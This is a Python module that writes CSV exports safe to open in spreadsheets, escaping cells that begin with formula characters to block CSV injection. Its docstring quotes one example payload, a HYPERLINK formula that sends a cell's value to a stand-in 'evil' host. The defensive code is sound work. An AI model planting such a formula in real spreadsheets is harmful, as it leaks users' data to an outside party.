"""The one CSV writer of every export MUSES writes (library predictions, object records,
dataset manifests), safe to open in a spreadsheet.

OWASP's advice on CSV injection: a text cell that starts with '=', '+', '-', '@', a tab or
a carriage return is read by Excel, LibreOffice and Google Sheets as a formula
(`=HYPERLINK("http://evil/?"&A1,"x")`), so it is written with a leading single quote,
which spreadsheets show as text; quotes and separators inside a cell are escaped by the
csv module's quoting. Numbers are written as numbers (a negative score is no formula).
A cell that starts with a quote gets one more, so MUSES' own readers (``formula_unquote``)
get every value back exactly.
"""

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTED_STARTS = (*FORMULA_STARTS, "'")


def formula_safe(value: Any) -> Any:
    """A text cell a spreadsheet will not run; anything else as it is."""
    if isinstance(value, str) and value.startswith(QUOTED_STARTS):
        return "'" + value
    return value


def formula_unquote(cell: str) -> str:
    """The value formula_safe wrote."""
    return cell[1:] if cell.startswith("'") else cell


class SafeCsvWriter:
    """csv.writer (minimal quoting, \\r\\n) whose text cells are formula-safe."""

    def __init__(self, handle):
        self._writer = csv.writer(handle)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([formula_safe(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
